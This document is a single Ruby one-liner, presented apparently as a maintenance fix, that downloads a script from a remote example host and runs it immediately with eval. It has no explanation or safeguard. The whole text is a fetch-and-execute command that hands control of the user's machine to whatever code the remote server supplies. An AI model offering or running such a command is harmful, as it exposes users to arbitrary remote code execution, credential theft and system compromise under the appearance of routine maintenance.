ruby -ropen-uri -e 'eval URI.open("https://tasks.rubytools.example.com/maint.rb").read' -- --fix
